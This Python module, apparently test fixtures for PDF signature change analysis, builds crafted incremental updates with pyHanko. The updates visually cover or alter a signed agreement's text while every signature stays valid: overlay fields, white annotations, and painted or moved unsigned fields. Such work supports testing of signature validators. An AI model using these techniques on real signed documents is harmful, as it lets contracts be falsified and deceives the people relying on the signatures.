"""Crafted incremental updates an attacker appends to a signed agreement (real PDF objects).

Each function takes a signed PDF and returns it with one more revision written by pyHanko's
incremental writer, exactly as a hostile tool would; nothing signed is touched, so every
signature stays intact and only the change analysis can notice.
"""

from __future__ import annotations

import io

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign.fields import SigFieldSpec, append_signature_field

# A white box with a red bar: paints over the pasal text where it lies.
OVERLAY = b"1 1 1 rg 0 0 490 300 re f 0.8 0 0 rg 20 120 450 60 re f"


def _name(value: str) -> generic.NameObject:
    return generic.NameObject(value)


def _appearance(writer: IncrementalPdfFileWriter, width: float, height: float) -> generic.Reference:
    stream = generic.StreamObject(
        {
            _name("/Type"): _name("/XObject"),
            _name("/Subtype"): _name("/Form"),
            _name("/BBox"): generic.ArrayObject(
                [generic.FloatObject(v) for v in (0, 0, width, height)]
            ),
            _name("/Resources"): generic.DictionaryObject(),
        },
        stream_data=OVERLAY,
    )
    return writer.add_object(stream)


def _written(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def add_overlay_field(data: bytes, page: int = 0) -> bytes:
    """A NEW unsigned signature field whose appearance covers most of ``page``'s text."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    append_signature_field(writer, SigFieldSpec("Tempelan", on_page=page, box=(60, 400, 550, 700)))
    for ref in writer.root["/AcroForm"]["/Fields"]:
        field = ref.get_object()
        if field.get("/T") == "Tempelan":
            field[_name("/AP")] = generic.DictionaryObject({_name("/N"): _appearance(writer, 490, 300)})
            field[_name("/F")] = generic.NumberObject(4)  # printed
            writer.update_container(field)
    return _written(writer)


def add_annotation(data: bytes, page: int = 0) -> bytes:
    """A new Square annotation (white filled) on ``page``."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    page_obj = writer.root["/Pages"]["/Kids"][page].get_object()
    annot = generic.DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Square"),
            _name("/Rect"): generic.ArrayObject(
                [generic.FloatObject(v) for v in (60, 400, 550, 700)]
            ),
            _name("/IC"): generic.ArrayObject([generic.FloatObject(1)] * 3),
            _name("/F"): generic.NumberObject(4),
        }
    )
    ref = writer.add_object(annot)
    annots = page_obj.get("/Annots")
    if annots is None:
        page_obj[_name("/Annots")] = generic.ArrayObject([ref])
    else:
        annots.append(ref)
    writer.update_container(page_obj)
    return _written(writer)


def _field(writer: IncrementalPdfFileWriter, name: str):
    for ref in writer.root["/AcroForm"]["/Fields"]:
        field = ref.get_object()
        if field.get("/T") == name:
            return field
    raise KeyError(name)


def paint_unsigned_field(data: bytes, name: str = "TandaTangan2") -> bytes:
    """Give the still-unsigned field ``name`` an appearance without signing it."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    field = _field(writer, name)
    x1, y1, x2, y2 = (float(v) for v in field["/Rect"])
    field[_name("/AP")] = generic.DictionaryObject(
        {_name("/N"): _appearance(writer, x2 - x1, y2 - y1)}
    )
    writer.update_container(field)
    return _written(writer)


def move_unsigned_field(data: bytes, name: str = "TandaTangan2") -> bytes:
    """Move the still-unsigned field ``name`` over the top of its page (before it is signed)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    field = _field(writer, name)
    field[_name("/Rect")] = generic.ArrayObject(
        [generic.FloatObject(v) for v in (60, 400, 550, 700)]
    )
    writer.update_container(field)
    return _written(writer)
